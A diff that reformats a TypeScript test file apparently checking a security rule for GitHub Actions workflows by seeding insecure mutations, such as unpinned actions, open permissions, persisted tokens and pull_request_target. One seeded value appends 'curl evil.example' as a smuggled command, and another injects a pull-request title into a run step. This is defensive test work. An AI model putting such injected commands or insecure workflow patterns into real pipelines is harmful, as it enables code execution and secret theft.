@@ -26,9 +26,14 @@ describe('the workflows', () => {
   });
 
   it('have scripts that pass shellcheck', async () => {
-    const scripts = workflows.flatMap(([, text]) => readWorkflow(text).jobs.flatMap(({ steps = [] }) => steps.flatMap(({ run }) => run ?? [])));
+    const scripts = workflows.flatMap(([, text]) =>
+      readWorkflow(text).jobs.flatMap(({ steps = [] }) => steps.flatMap(({ run }) => run ?? [])),
+    );
     expect(scripts.length).toBeGreaterThan(10);
-    const { stdout, status } = spawnSync(await shellCheck(), ['--shell=bash', '-'], { input: scripts.join('\n'), encoding: 'utf8' });
+    const { stdout, status } = spawnSync(await shellCheck(), ['--shell=bash', '-'], {
+      input: scripts.join('\n'),
+      encoding: 'utf8',
+    });
     expect({ stdout, status }).toEqual({ stdout: '', status: 0 });
   });
 });
@@ -69,24 +74,59 @@ describe('a rule for workflows', () => {
   const seeded: readonly (readonly [string, string, string, string])[] = [
     ['code beside credentials', 'npm ci', step, `      - run: npm ci\n${step}`],
     ['code beside credentials', 'tsx', step, `      - run: node --import tsx apps/prod/main.ts\n${step}`],
-    ['code beside credentials', 'a checkout', step, `      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n        with: { persist-credentials: false }\n${step}`],
+    [
+      'code beside credentials',
+      'a checkout',
+      step,
+      `      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n        with: { persist-credentials: false }\n${step}`,
+    ],
     ['code beside credentials', 'an action of the checkout', step, `      - uses: ./.github/actions/set-up\n${step}`],
     ['more than one call beside credentials', 'two commands', '--app prod', '--app prod && curl evil.example'],
     ['apply without an environment', 'none', '    environment: prod\n', ''],
     ['apply that may be cancelled', 'cancel-in-progress', 'cancel-in-progress: false', 'cancel-in-progress: true'],
-    ['apply that may be cancelled', 'no group', '    concurrency:\n      group: apply\n      cancel-in-progress: false\n', ''],
-    ['credentials for a fork', 'no condition', '    if: github.event.pull_request.head.repo.full_name == github.repository\n', ''],
+    [
+      'apply that may be cancelled',
+      'no group',
+      '    concurrency:\n      group: apply\n      cancel-in-progress: false\n',
+      '',
+    ],
+    [
+      'credentials for a fork',
+      'no condition',
+      '    if: github.event.pull_request.head.repo.full_name == github.repository\n',
+      '',
+    ],
     ['checkout of a pull request beside secrets', 'pull_request_target', '  pull_request:', '  pull_request_target:'],
     ['an action that is no commit', 'a tag', 'b9cd54a3c349d3f38e8881555d616ced269862dd # v3.1.2', 'v3'],
     ['permissions left open', 'a workflow that may write', 'permissions: {}', 'permissions:\n  contents: write'],
     ['permissions left open', 'a job that takes what there is', '    permissions:\n      id-token: write\n', ''],
-    ['a token left on disk', 'a checkout', step, `      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n${step}`],
+    [
+      'a token left on disk',
+      'a checkout',
+      step,
+      `      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n${step}`,
+    ],
     ['text that becomes code', 'a title', '--app prod', '--app "${{ github.event.pull_request.title }}"'],
     ['a program by its name', 'the name', 'artifact-ids: ${{ needs.tool.outputs.artifact }}', 'name: tool'],
-    ['a program by its name', 'everything there is', "        with:\n          artifact-ids: ${{ needs.tool.outputs.artifact }}\n          path: tool\n", ''],
+    [
+      'a program by its name',
+      'everything there is',
+      '        with:\n          artifact-ids: ${{ needs.tool.outputs.artifact }}\n          path: tool\n',
+      '',
+    ],
     ['a program by its name', 'a place around it', '          path: tool\n', '          path: .\n'],
-    ['a program built from a cache', 'that of npm', step, `      - uses: ./.github/actions/set-up\n      - run: npm run bundle\n`],
-    ['a pattern that may match one', 'fragments', 'artifact-ids: ${{ needs.tool.outputs.artifact }}\n          path: tool', "pattern: '{tool,fragments-*}'"],
+    [
+      'a program built from a cache',
+      'that of npm',
+      step,
+      `      - uses: ./.github/actions/set-up\n      - run: npm run bundle\n`,
+    ],
+    [
+      'a pattern that may match one',
+      'fragments',
+      'artifact-ids: ${{ needs.tool.outputs.artifact }}\n          path: tool',
+      "pattern: '{tool,fragments-*}'",
+    ],
     ['no time-out', 'none', '    timeout-minutes: 10\n', ''],
   ];
 
